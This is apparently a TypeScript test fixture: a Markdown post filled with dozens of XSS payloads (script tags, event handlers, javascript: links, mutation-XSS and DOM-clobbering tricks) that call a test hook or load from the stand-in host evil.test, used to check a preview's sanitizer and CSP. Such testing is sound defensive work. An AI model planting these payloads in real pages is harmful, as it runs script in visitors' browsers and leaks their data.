/**
 * A post stuffed with XSS payloads. Each payload that manages to run calls
 * `__pwned('<id>')` (a function the test exposes to every frame); payloads that
 * exfiltrate instead try to load something from https://evil.test, which the test
 * records. Every payload is its own HTML block so Markdown passes it through raw.
 */
export const XSS_POST = `---
title: "XSS <script>__pwned('title')</script>"
description: "\\"><img src=x onerror=__pwned('description')>"
tags: ["<img src=x onerror=__pwned('tag')>", "\\" onmouseover=\\"__pwned('tag-attr')", "xss"]
image: "javascript:__pwned('hero')"
---
Intro paragraph with a [markdown javascript link](javascript:__pwned('md-js-link')) and
[an encoded one](jav&#x61;script:__pwned('md-js-entity')).

<script>__pwned('script')</script>

<img src="x" onerror="__pwned('img-onerror')">

<svg onload="__pwned('svg-onload')"><circle r="1"/></svg>

<svg><script>__pwned('svg-script')</script></svg>

<p><a href="javascript:__pwned('js-link')">js link</a></p>

<p><a href="JaVaScRiPt:__pwned('js-link-case')">js link case</a></p>

<p><a href="java&#x09;script:__pwned('js-link-tab')">js link tab</a></p>

<p><a href="  javascript:__pwned('js-link-space')">js link space</a></p>

<p><a href="vbscript:msgbox(1)">vbscript link</a></p>

<p><a href="data:text/html,&lt;script&gt;parent.__pwned('data-link')&lt;/script&gt;">data link</a></p>

<p><a href="#" onclick="__pwned('onclick')">onclick link</a></p>

<p><a href="https://example.org/" onmouseover="__pwned('onmouseover')">hover link</a></p>

<iframe srcdoc="<script>parent.__pwned('iframe-srcdoc')</script>"></iframe>

<iframe src="javascript:parent.__pwned('iframe-js')"></iframe>

<iframe src="https://evil.test/frame"></iframe>

<meta http-equiv="refresh" content="0;url=https://evil.test/meta-refresh">

<style>body { background: url(https://evil.test/style-tag); }</style>

<div style="background-image: url(https://evil.test/inline-style)">inline style</div>

<div style="width: expression(__pwned('css-expression'))">css expression</div>

<link rel="stylesheet" href="https://evil.test/link.css">

<base href="https://evil.test/base/">

<form action="https://evil.test/form" method="get"><input name="q" value="secret"><button type="submit">Submit</button></form>

<button formaction="javascript:__pwned('formaction')">formaction</button>

<object data="javascript:__pwned('object')"></object>

<object data="https://evil.test/object"></object>

<embed src="https://evil.test/embed">

<img src="https://evil.test/remote.png" alt="remote">

<img src="//evil.test/protocol-relative.png" alt="protocol relative">

<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='parent.__pwned(&quot;svg-data&quot;)'/&gt;">

<img srcset="https://evil.test/srcset.png 1x" src="x">

<details open ontoggle="__pwned('details-ontoggle')"><summary>details</summary>body</details>

<input autofocus onfocus="__pwned('input-onfocus')">

<video><source onerror="__pwned('video-source')"></video>

<audio src="x" onerror="__pwned('audio-onerror')"></audio>

<body onload="__pwned('body-onload')">

<p>{{constructor.constructor('__pwned("template-angular")')()}}</p>

<p>\${__pwned('template-literal')}</p>

<noscript><p title="</noscript><img src=x onerror=__pwned('mxss-noscript')>"></noscript>

<svg></p><style><a title="</style><img src=1 onerror=__pwned('mxss-svg-style')>">

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__pwned('mxss-math')&gt;">

<template><img src=x onerror=__pwned('template-tag')></template>

<textarea><img src=x onerror=__pwned('textarea')></textarea>

<xmp><img src=x onerror=__pwned('xmp')></xmp>

<a id="__pwned" href="#">clobber by id</a>

<img name="getElementById" src="x">

A safe paragraph at the end: the preview must still show this text.

<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned('mxss-form-math')>
`;

/** Payloads that certainly fire when neither the sanitizer nor the CSP is there (the control). */
export const LIVE_WITHOUT_DEFENCES = ['script', 'img-onerror', 'svg-onload', 'js-link', 'iframe-srcdoc', 'onclick'];
